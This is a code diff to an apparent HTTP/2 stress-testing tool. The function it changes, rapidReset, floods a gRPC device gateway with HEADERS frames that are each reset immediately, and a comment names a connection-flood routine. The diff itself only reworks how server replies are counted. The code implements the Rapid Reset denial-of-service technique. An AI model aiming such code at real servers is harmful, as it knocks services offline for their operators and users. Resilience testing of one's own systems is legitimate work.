@@ -194,9 +194,10 @@ async function rapidReset(o: Options): Promise<AttackSummary['counts']> {
   const tally = new H2Tally();
   const sent = { bytes: 0 };
   const pairs = 200;
-  let rstFromServer = 0;
-  let headersFromServer = 0;
-  o.snapshot = () => ({ ...tally.counts(), bytesSent: sent.bytes });
+  const sockets: H2Socket[] = [];
+  // What the server answered before resetting (HEADERS: it started the call) or reset itself.
+  const answered = () => ({ serverRstStreams: sockets.reduce((a, h) => a + h.reader.rstStreams, 0), serverHeaders: sockets.reduce((a, h) => a + h.reader.headersFrames, 0) });
+  o.snapshot = () => ({ ...tally.counts(), bytesSent: sent.bytes, ...answered() });
   await Promise.all(Array.from({ length: o.concurrency }, (_, c) => {
     const block = grpcHeaderBlock('/stratus.v1.DeviceGateway/Connect', `${o.host}:${o.grpcPort}`, { 'x-device-id': `rapid-reset-${c}` });
     const streamIds = new WeakMap<H2Socket, number>();
@@ -204,10 +205,7 @@ async function rapidReset(o: Options): Promise<AttackSummary['counts']> {
       let id = streamIds.get(h);
       if (id === undefined) {
         id = 1;
-        void h.closed.then(() => {
-          rstFromServer += h.reader.rstStreams;
-          headersFromServer += h.reader.headersFrames;
-        });
+        sockets.push(h);
       }
       const out: Buffer[] = [];
       for (let k = 0; k < pairs; k++, id += 2) out.push(headers(id, block), rstStream(id));
@@ -216,7 +214,7 @@ async function rapidReset(o: Options): Promise<AttackSummary['counts']> {
     }, sent);
   }));
   const pairBytes = headers(1, grpcHeaderBlock('/stratus.v1.DeviceGateway/Connect', `${o.host}:${o.grpcPort}`, { 'x-device-id': 'rapid-reset-0' })).length + 13;
-  return { ...tally.counts(), streamsReset: Math.floor(sent.bytes / pairBytes), serverRstStreams: rstFromServer, serverHeaders: headersFromServer };
+  return { ...tally.counts(), streamsReset: Math.floor(sent.bytes / pairBytes), ...answered() };
 }
 
 /** (4) Connection flood: up to `count` HTTP/2 connections (preface + SETTINGS) held until the end. */
